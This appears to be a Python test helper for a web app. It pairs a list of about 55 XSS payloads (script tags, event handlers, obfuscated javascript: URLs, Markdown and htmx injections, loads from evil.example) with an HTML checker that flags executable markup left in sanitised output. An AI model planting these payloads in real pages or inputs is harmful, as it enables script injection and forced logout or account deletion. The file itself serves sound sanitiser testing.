"""XSS payloads and a checker that finds anything executable a payload could have left in a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('XSS')\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>',
    '<a href=" javascript:alert(1)">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<a href="data:text/html,<script>alert(1)</script>">clic</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>Envoyer</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div hx-get="/logout" hx-trigger="load">pwn</div>',
    '<div hx-on:click="alert(1)">pwn</div>',
    '<div data-hx-post="/account/erase" data-hx-trigger="load">pwn</div>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](javascript&#58;alert(1))",
    "[clic](  javascript:alert(1)  )",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[clic][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code><script>alert(1)</script>\n```",
    "**<img src=x onerror=alert(1)>**",
    '<a href="https://example.org" onclick="alert(1)">lien</a>',
    '<a href="https://example.org" target="_blank">lien</a>',
    "\u202eexe.txt\u202c <script>alert(1)</script>",
    "{{ 7*7 }} {% print('pwn') %}",
]

# Tags that run or load code, restyle the page or change where links and forms go. Markup such as
# <svg> or <details> is harmless without an event handler, which is checked on every tag.
DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "base"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "data",
    "srcdoc",
}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.I)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            if not values.get("src", "").startswith("/static/"):
                self.problems.append(f"<script> not from /static/: {values}")
            self.in_script = True
        elif tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> in the page")
        href = values.get("href", "")
        if tag == "link" and not (href.startswith("/") and not href.startswith("//")):
            self.problems.append(f"<link> to {values.get('href')}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append("<meta http-equiv>")
        if tag == "form" and not (
            values.get("action", "/").startswith("/") and not values["action"].startswith("//")
        ):
            self.problems.append(f"<form action={values.get('action')}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name.startswith(("hx-on", "data-hx-on")):
                self.problems.append(f"{name} on <{tag}>")
            if (name.startswith(("hx-", "data-hx-"))) and ("/logout" in value or "/account/erase" in value):
                self.problems.append(f"injected {name}={value!r}")
            if name in URL_ATTRIBUTES:
                squeezed = re.sub(r"[\x00-\x20]", "", value)
                if BAD_SCHEME.match(squeezed) and not (tag == "img" and squeezed.startswith("data:image/")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append("inline script content")


def executable_bits(html: str) -> list[str]:
    """Everything in the markup that could run code or restyle/redirect the page."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.problems
